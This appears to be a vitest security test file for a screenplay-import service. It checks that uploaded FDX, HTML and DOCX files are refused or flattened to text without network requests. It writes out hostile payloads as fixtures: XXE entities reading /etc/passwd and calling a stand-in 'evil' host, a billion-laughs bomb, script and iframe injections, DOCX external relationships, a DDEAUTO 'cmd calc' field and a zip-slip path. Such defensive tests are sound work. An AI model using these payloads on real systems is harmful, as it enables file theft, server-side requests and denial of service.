/** Files that try to make the parser fetch an address or exhaust memory. A listener counts the connections. */
import { once } from 'node:events'
import { createServer, type Server } from 'node:net'
import type { AddressInfo } from 'node:net'
import type { ImportedFile } from '@replique/contract'
import { strToU8, zipSync } from 'fflate'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { signUp, type Person } from '../../../testing/cast.ts'
import { openTestApp, type TestApp } from '../../../testing/index.ts'

let testApp: TestApp
let alice: Person
let listener: Server
let connections = 0
let evil: string
beforeAll(async () => {
  listener = createServer((socket) => {
    connections++
    socket.destroy()
  })
  listener.listen(0, '127.0.0.1')
  await once(listener, 'listening')
  evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
  testApp = await openTestApp()
  await testApp.app.start()
  alice = await signUp(testApp, 'Alice')
})
afterAll(async () => {
  await testApp.close()
  listener.close()
})

type Bytes = Uint8Array<ArrayBuffer>
const bytesOf = (text: string): Bytes => strToU8(text) as Bytes

/** Imports a file. Returns the play's text, or the error code if the file is refused. */
async function bring(name: string, bytes: Bytes): Promise<{ code: string } | { words: string }> {
  const form = new FormData()
  form.set('file', new File([bytes], name))
  const answer = await alice.ask('POST', '/api/imports', form)
  const told = (await answer.json()) as { code: string; import: ImportedFile | null; play: { id: string } | null }
  if (answer.status >= 400) return { code: told.code }
  const path = `/api/imports/${told.import?.id}`
  if (told.import !== null) {
    const now = async () => (await (await alice.ask('GET', path)).json()) as ImportedFile
    await expect.poll(async () => (await now()).state, { timeout: 30_000 }).toMatch(/review|failed/)
    const { state, reason } = await now()
    if (state === 'failed') return { code: reason ?? '' }
  }
  const accept = { had: 0 }
  const play =
    told.play?.id ?? ((await (await alice.ask('POST', `${path}/accept`, accept)).json()) as { play: string }).play
  return { words: await (await alice.ask('GET', `/api/plays/${play}/export?format=fountain`)).text() }
}

const fdx = (words: string, head = ''): string =>
  `<?xml version="1.0"?>${head}<FinalDraft DocumentType="Script"><Content><Paragraph Type="Character"><Text>ADA</Text></Paragraph><Paragraph Type="Dialogue"><Text>${words}</Text></Paragraph></Content></FinalDraft>`
const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')

test.each([
  ['an entity of this machine', () => fdx('&x;', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')],
  ['an entity of the network', () => fdx('&x;', `<!DOCTYPE a [<!ENTITY x SYSTEM "${evil}/">]>`)],
  ['a parameter of the network', () => fdx('x', `<!DOCTYPE a [<!ENTITY % x SYSTEM "${evil}/x.dtd"> %x;]>`)],
  ['a billion laughs', () => fdx('&l9;', `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]>`)],
  [
    'one long entity again and again',
    () => fdx('&a;'.repeat(50_000), `<!DOCTYPE a [<!ENTITY a "${'a'.repeat(50_000)}">]>`),
  ],
  ['200,000 elements in one another', () => `<FinalDraft><Content>${'<Paragraph>'.repeat(200_000)}`],
])('XML with %s is refused', async (_what, make) => {
  expect(await bring('a.fdx', bytesOf(make()))).toEqual({ code: expect.stringMatching(/^file_(?:refused|unknown)$/) })
  expect(connections).toBe(0)
})

test('XML with external references is read without loading them', async () => {
  const head = `<?xml-stylesheet href="${evil}/a.xsl" type="text/xsl"?><!DOCTYPE FinalDraft SYSTEM "${evil}/a.dtd">`
  const read = await bring('b.fdx', bytesOf(fdx(`<xi:include href="${evil}/x"/>I am here.`, head)))
  expect(read).toMatchObject({ words: expect.stringContaining('I am here.') })
  expect(connections).toBe(0)
})

const PAGE = () => `<html><head><title>Rain</title><base href="${evil}/"><link rel="stylesheet" href="${evil}/a.css">
<style>@import url(${evil}/b.css); p { background: url(${evil}/c.png) }</style></head><body onload="fetch('${evil}')">
<!--[if mso]><img src="${evil}/d.png"><![endif]--><iframe src="${evil}/e"></iframe><img src="file:///etc/passwd"><object data="${evil}/f"></object>
<script src="${evil}/g.js"></script>${Array.from({ length: 4 }, (_, at) => `<p class="who">ADA</p><p onclick="alert(1)">Line ${at} is spoken.</p>`).join('')}</body></html>`

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const P = 'http://schemas.openxmlformats.org/package/2006/relationships'
const said = (words: string): string => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`
const outside = (id: string, type: string, target: string): string =>
  `<Relationship Id="${id}" Type="${R}/${type}" Target="${target}" TargetMode="External"/>`
const DOCX = () =>
  zipSync({
    '[Content_Types].xml': bytesOf(
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    ),
    '_rels/.rels': bytesOf(
      `<Relationships xmlns="${P}"><Relationship Id="r1" Type="${R}/officeDocument" Target="word/document.xml"/></Relationships>`,
    ),
    'word/_rels/document.xml.rels': bytesOf(
      `<Relationships xmlns="${P}">${outside('i1', 'image', `${evil}/i.png`)}${outside('i2', 'image', 'file:///etc/passwd')}${outside('o1', 'oleObject', `${evil}/o`)}${outside('t1', 'attachedTemplate', `${evil}/t.dotm`)}${outside('a1', 'aFChunk', `${evil}/c.html`)}</Relationships>`,
    ),
    'word/document.xml': bytesOf(
      `<w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>${Array.from({ length: 4 }, (_, at) => said('ADA') + said(`Line ${at} is spoken.`)).join('')}<w:p><w:r><w:object><o:OLEObject xmlns:o="o" Type="Link" r:id="o1"/></w:object><w:fldSimple w:instr="INCLUDETEXT ${evil}/f"/><w:fldSimple w:instr="DDEAUTO cmd calc"/></w:r></w:p><w:altChunk r:id="a1"/></w:body></w:document>`,
    ),
    'word/vbaProject.bin': bytesOf('Shell "calc"'),
    '../../../../tmp/replique-was-here': bytesOf('out of the archive'),
  }) as Bytes

test.each([
  ['rain.html', () => bytesOf(PAGE())],
  ['rain.docx', DOCX],
])('%s is read as text, without any request', async (name, make) => {
  const read = await bring(name, make())
  expect(read).toMatchObject({ words: expect.stringContaining('Line 3 is spoken.') })
  const { words } = read as { words: string }
  for (const no of ['127.0.0.1', 'alert(1)', 'onclick', 'root:', 'calc', '<img', '<iframe', 'url('])
    expect(words).not.toContain(no)
  expect(connections).toBe(0)
})

test('the listener of these tests detects a request', async () => {
  await fetch(evil).catch(() => undefined)
  expect(connections).toBe(1)
})
